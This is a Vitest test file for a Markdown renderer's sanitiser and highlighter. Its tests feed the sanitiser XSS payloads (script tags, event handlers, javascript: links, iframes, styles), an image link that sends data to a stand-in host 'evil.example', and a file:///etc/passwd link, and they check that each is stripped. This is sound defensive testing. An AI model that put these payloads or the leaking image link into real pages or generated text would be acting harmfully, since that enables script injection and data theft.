import { describe, expect, it, vi } from 'vitest';
import { renderMarkdown, warmMarkdown } from './markdown';

// The real highlighter, watched: warming Markdown must not make highlight.js build languages.
vi.mock('./highlight', async (original) => {
  const real = await original<typeof import('./highlight')>();
  return { ...real, highlightCode: vi.fn(real.highlightCode) };
});
const { highlightCode } = vi.mocked(await import('./highlight'));

const dom = (html: string) => {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
};

describe('renderMarkdown', () => {
  it('renders Markdown', () => {
    const d = dom(renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n- a\n- b'));
    expect(d.querySelector('h1')?.textContent).toBe('Title');
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect(d.querySelectorAll('li')).toHaveLength(2);
  });

  it('highlights known languages and escapes unknown ones', () => {
    const d = dom(renderMarkdown('```rust\nfn main() {}\n```\n\n```zork\n<b>x</b>\n```'));
    const [rust, other] = d.querySelectorAll('pre code');
    expect(rust?.querySelector('.hljs-keyword')?.textContent).toBe('fn');
    expect(other?.querySelector('b')).toBeNull();
    expect(other?.textContent).toContain('<b>x</b>');
  });

  it.each([
    ['script', '<script>window.pwned = 1</script>hello'],
    ['onerror', '<img src=x onerror="window.pwned = 1">'],
    ['javascript link', '[click](javascript:window.pwned=1)'],
    ['svg onload', '<svg onload="window.pwned=1"><circle/></svg>'],
    ['iframe', '<iframe src="https://example.com"></iframe>'],
    ['style', '<style>body{display:none}</style><p style="color:red">x</p>'],
    ['handler in html block', '<div onclick="window.pwned=1">x</div>'],
  ])('strips %s', (_name, payload) => {
    const html = renderMarkdown(payload);
    expect(html).not.toMatch(/<script|onerror|onload|onclick|javascript:|<iframe|<style|style=/i);
    dom(html);
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('drops images, so text cannot call out to a remote server', () => {
    const html = renderMarkdown('![x](https://evil.example/leak?d=secret)');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('evil.example');
  });

  it('keeps ordinary links', () => {
    const a = dom(renderMarkdown('[docs](https://example.com/a)')).querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://example.com/a');
  });

  it('keeps only inert links and read-only task boxes, block after block', () => {
    for (let i = 0; i < 2; i++) {
      const d = dom(renderMarkdown('[a](./notes.md) [b](file:///etc/passwd)\n\n- [x] done\n\n<input type="text" value="x">'));
      expect([...d.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([null, null]);
      const inputs = [...d.querySelectorAll('input')];
      expect(inputs.map((n) => [n.type, n.disabled])).toEqual([['checkbox', true]]);
    }
  });

  it('warms up on a sample that renders and highlights nothing', () => {
    highlightCode.mockClear();
    warmMarkdown();
    expect(highlightCode).not.toHaveBeenCalled();
    // And highlighting still works once a code block comes.
    expect(renderMarkdown('```rust\nfn x() {}\n```')).toContain('hljs-keyword');
    expect(highlightCode).toHaveBeenCalledTimes(1);
  });
});
